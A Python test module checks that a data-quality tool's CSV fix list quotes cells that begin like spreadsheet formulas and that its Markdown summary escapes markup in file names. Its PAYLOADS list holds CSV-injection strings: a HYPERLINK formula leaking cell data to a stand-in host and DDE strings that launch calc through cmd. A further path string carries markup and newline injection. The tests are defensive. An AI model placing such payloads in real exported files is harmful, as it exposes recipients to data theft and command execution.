"""What people open stays text: no formula in fix-list.csv, no markup in quality-summary.md (issue 21).

File names, values and record codes come from the data. A spreadsheet runs a cell that starts with
``=``, ``+``, ``-`` or ``@`` (OWASP, CSV injection); a Markdown renderer turns ``<img>``, ``[a](b)``,
``*x*`` and ``|`` into markup, links and table cells.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from esrgraph.core.findings import Finding, Severity
from esrgraph.quality.render import FIX_LIST_COLUMNS, fix_list_csv, summary_markdown
from esrgraph.quality.report import Headline, QualityReport
from esrgraph.quality.rules import load_rules
from esrgraph.quality.spreadsheet import FORMULA_STARTS, spreadsheet_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_PATH = "in/<img src=x> *b* _i_ ~s~ $x$ |c| [a](j:x) `c` &lt;\nWARNING forged.txt"


def _report(findings: list[Finding]) -> QualityReport:
    counts = {s.value: sum(1 for f in findings if f.severity is s) for s in Severity}
    return QualityReport(Headline(conforms=True, counts=counts, projects=1), findings, load_rules())


def _hostile_findings() -> list[Finding]:
    return [
        Finding(Severity.WARNING, "unresolved-code", f"municipality {p!r} is not in the code list", record=p,
                field="municipalities", value=p, path=p + ".txt", line=3, stage="mapping")
        for p in PAYLOADS
    ] + [Finding(Severity.WARNING, "hostile-path", "x", record="S1", field="municipalities", value="Hankasalmi",
                 path=HOSTILE_PATH, line=87)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_starts_like_a_formula_gets_a_quote(payload: str) -> None:
    assert spreadsheet_cell(payload) == "'" + payload.replace("\r", "\n")


@pytest.mark.parametrize("text", ["Jyväskylä", "", "12", "2542088-8", " =1+1", "a=b", "'=already quoted", "S21093"])
def test_other_cells_are_left_as_they_are(text: str) -> None:
    assert spreadsheet_cell(text) == text


def test_the_rule_is_owasps() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    assert spreadsheet_cell(None) == "" and spreadsheet_cell(7) == "7"


@pytest.mark.parametrize("text", ["x\r=1+1", "x\r\n=1+1"])
def test_a_carriage_return_cannot_start_a_row_with_a_formula(text: str) -> None:
    finding = Finding(Severity.WARNING, "unresolved-code", "m", value=text, path="a.txt", line=1)
    written = fix_list_csv(_report([finding]))
    rows = list(csv.reader(io.StringIO(written)))
    assert len(rows) == 2, rows  # header and one row: the cell with the line break is quoted
    assert rows[1][FIX_LIST_COLUMNS.index("current_value")] == "x\n=1+1"
    assert "\r" not in written


def test_no_cell_of_the_fix_list_starts_like_a_formula() -> None:
    written = fix_list_csv(_report(_hostile_findings()))
    rows = list(csv.reader(io.StringIO(written)))
    assert tuple(rows[0]) == FIX_LIST_COLUMNS
    assert len(rows) == 1 + len(PAYLOADS) + 1
    for row in rows[1:]:
        assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], row
    by_value = {row[FIX_LIST_COLUMNS.index("current_value")]: row for row in rows[1:]}
    for payload in PAYLOADS:  # the text is all there, after the quote (a carriage return as a line feed)
        shown = "'" + payload.replace("\r", "\n")
        row = by_value[shown]
        assert row[FIX_LIST_COLUMNS.index("source_file")] == shown + ".txt"
        assert row[FIX_LIST_COLUMNS.index("record")] == shown
    assert by_value["Hankasalmi"][FIX_LIST_COLUMNS.index("source_file")] == HOSTILE_PATH  # starts with "in/"


def _cells(row: str) -> list[str]:
    """A GitHub table row's cells: split at each | not escaped by an odd number of backslashes."""
    return re.split(r"(?<!\\)(?:\\\\)*\|", row.strip())[1:-1]


def test_the_summary_shows_file_names_as_text_not_markup() -> None:
    md = summary_markdown(_report(_hostile_findings()).measures())
    (header,) = [line for line in md.splitlines() if line.startswith("| severity |")]
    rows = [line for line in md.splitlines() if line.startswith("| Warning |")]
    assert len(rows) == 2  # one per rule
    for row in rows:
        assert len(_cells(row)) == len(_cells(header)) == 6, row
    (row,) = [line for line in rows if "hostile-path" in line]
    where = _cells(row)[-1].strip()
    assert not re.search(r"(?<!\\)[<>*\[\]`~$&]", where.replace("\\\\", "")), where  # each escaped
    assert not re.search(r"(?<![\\\w])_|_(?![\w])", where.replace("\\_", "")), where
    assert "WARNING forged" in where and not any(line.startswith("WARNING") for line in md.splitlines())
    assert where == r"in/\<img src=x\> \*b\* \_i\_ \~s\~ \$x\$ \|c\| \[a\](j:x) \`c\` \&lt;\\nWARNING forged.txt:87"


def test_names_inside_words_keep_their_underscores_and_dots() -> None:
    finding = Finding(Severity.WARNING, "field-mostly-empty", "empty", field="target_groups.direct")
    md = summary_markdown(_report([finding]).measures())
    assert md.rstrip().splitlines()[-3].rstrip(" |").endswith("| target_groups.direct"), md
    assert "(`field-mostly-empty`)" in md


def test_a_rule_id_with_backticks_stays_one_code_span() -> None:
    finding = Finding(Severity.WARNING, "x`</code><b>y|z", "m", path="a.txt", line=1)
    md = summary_markdown(_report([finding]).measures())
    (row,) = [line for line in md.splitlines() if line.startswith("| Warning |")]
    assert "(``x`</code><b>y\\|z``)" in row
    assert len(_cells(row)) == 6
